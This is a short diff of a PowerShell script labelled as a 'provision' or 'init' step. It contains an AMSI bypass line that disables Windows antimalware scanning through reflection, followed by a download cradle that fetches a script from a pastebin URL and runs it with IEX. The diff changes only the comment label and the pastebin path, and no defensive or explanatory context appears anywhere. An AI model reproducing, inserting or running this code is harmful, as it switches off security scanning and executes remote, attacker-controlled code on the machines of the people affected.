@@ -1,3 +1,3 @@
-# provision 2517 v4
+# init 4348 v4
 [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
-IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/backup_svc')
+IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/sysadm')
